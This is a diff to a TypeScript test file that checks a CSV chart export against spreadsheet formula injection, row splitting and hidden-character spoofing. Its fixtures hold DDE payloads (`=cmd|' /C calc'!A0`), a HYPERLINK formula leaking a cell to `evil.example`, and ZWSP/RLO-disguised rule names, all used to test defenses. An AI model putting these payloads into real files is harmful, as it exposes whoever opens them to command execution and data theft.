@@ -8,19 +8,21 @@ import { fidelityCase } from '../fixtures/fidelity/corpus'
 import { REVIEWER, resourcesDir } from '../fixtures/sync-fixtures'
 import { makeTempDir } from '../fixtures/temp-dir'
 
-// Attack 23 on the Insights CSV export after attack 22's fix (a label starting with = + - @ tab
-// CR gets an apostrophe). Two ways round it, both with a policy rule a case carries:
-// - the list separator: Excel in most of Europe (de-DE, fr-FR, nl-NL…) opens a .csv split on `;`,
-//   and LibreOffice's import splits on tab and `;` too. A rule `REFUND;=cmd|' /C calc'!A0;` has no
-//   quote, comma or line break, so it is written unquoted and whole, and such a spreadsheet reads
-//   `=cmd|' /C calc'!A0` as a cell of its own: a formula (DDE) again. Quoting every text cell (as
-//   OWASP's CSV-injection advice also says) keeps it one cell.
-// - hidden characters: the screen shows a rule's ZWSP and RLO as chips and spells them out on the
-//   chart (⟨ZWSP⟩, ⟨RLO⟩); the CSV of the same chart carries them raw, so in a spreadsheet
-//   `REFUND\u200B-LIMIT` is a second row that reads exactly as `REFUND-LIMIT`, and
-//   `TIMIL-REVO\u202EDNUFER` reads as `TIMIL-REVOREFUND`: counts land on a rule that is not the one shown.
+// What a case carries into the Insights CSV export (`x` on a chart) stays text, one cell, and the
+// rule it names: the policy rule that paused a case is a label of "Outcomes by policy rule", and
+// a spreadsheet reads the file in its own way.
+// - Formulas (OWASP CSV injection): a label starting with = + - @ tab or CR is a formula cell unless
+//   it is prefixed; and where the list separator is `;` (Excel in most of Europe) or tab
+//   (LibreOffice), an unquoted `REFUND;=cmd|' /C calc'!A0;` splits into a formula cell of its own,
+//   so every text cell is quoted (attacks 22 and 23).
+// - Line breaks: a lone CR ends a record in a spreadsheet, so it must stay inside a quoted cell.
+// - Hidden characters: the chart spells a rule's ZWSP and RLO out (⟨ZWSP⟩, ⟨RLO⟩); raw in the CSV,
+//   `REFUND\u200B-LIMIT` would be a second row reading exactly as `REFUND-LIMIT`, and
+//   `TIMIL-REVO\u202EDNUFER` would read as `TIMIL-REVOREFUND`.
 
 const RULES = {
+  loneCr: 'REFUND\rOVER-LIMIT',
+  formula: '=HYPERLINK("https://evil.example/?leak="&A1,"Open details")',
   semicolon: "REFUND;=cmd|' /C calc'!A0;",
   tab: "REFUND\t=cmd|' /C calc'!A0",
   real: 'REFUND-LIMIT',
@@ -31,7 +33,7 @@ const RULES = {
 let dir: ReturnType<typeof makeTempDir>
 let services: AppServices | undefined
 beforeEach(() => {
-  dir = makeTempDir('countersign-a23-csv-')
+  dir = makeTempDir('countersign-insights-csv-')
 })
 afterEach(() => {
   services?.close()
@@ -40,7 +42,7 @@ afterEach(() => {
 })
 
 /** CSV as a spreadsheet reads it with these list separators (quotes as RFC 4180). */
-function parseCsv(text: string, separators: string): string[][] {
+function parseCsv(text: string, separators = ','): string[][] {
   const rows: string[][] = []
   let row: string[] = []
   let cell = ''
@@ -76,10 +78,10 @@ function parseCsv(text: string, separators: string): string[][] {
 async function exportedCsv(): Promise<string> {
   const cases = Object.entries(RULES).map(([key, rule]) => {
     const base = fidelityCase('line endings LF')
-    return { ...base, id: `a23-${key}`, title: `Rule ${key}`, pauseReason: { ...base.pauseReason, rule } }
+    return { ...base, id: `csv-${key}`, title: `Rule ${key}`, pauseReason: { ...base.pauseReason, rule } }
   })
   const file = join(dir.path, 'rules.bundle.json')
-  writeFileSync(file, JSON.stringify({ format: BUNDLE_FORMAT, version: BUNDLE_VERSION, generatedAt: new Date().toISOString(), workspace: { id: 'a23', name: 'A23' }, cases }))
+  writeFileSync(file, JSON.stringify({ format: BUNDLE_FORMAT, version: BUNDLE_VERSION, generatedAt: new Date().toISOString(), workspace: { id: 'csv', name: 'CSV' }, cases }))
   const app = (services = openAppServices({ dataDir: join(dir.path, 'app'), resourcesDir, reviewer: REVIEWER, appVersion: '1.0.0-test', undoGraceMs: 0, watchSla: false }))
   await app.settings.save({ config: { id: 'usb', kind: 'bundle', name: 'USB', path: file, syncIntervalSeconds: 3600 } })
   await app.sync.syncNow('usb')
@@ -92,7 +94,13 @@ async function exportedCsv(): Promise<string> {
   return chartCsv(chart)
 }
 
-describe('attack 23: the Insights CSV export', () => {
+describe('the Insights CSV export', () => {
+  it('a policy rule with a lone CR stays one cell of one row', async () => {
+    const rows = parseCsv(await exportedCsv())
+    expect(rows).toHaveLength(1 + Object.keys(RULES).length)
+  })
+
+
   it('no cell starts a formula in a spreadsheet that splits on ; or tab (Excel in most of Europe, LibreOffice)', async () => {
     const csv = await exportedCsv()
     for (const separators of [',;', ',\t', ',;\t']) {
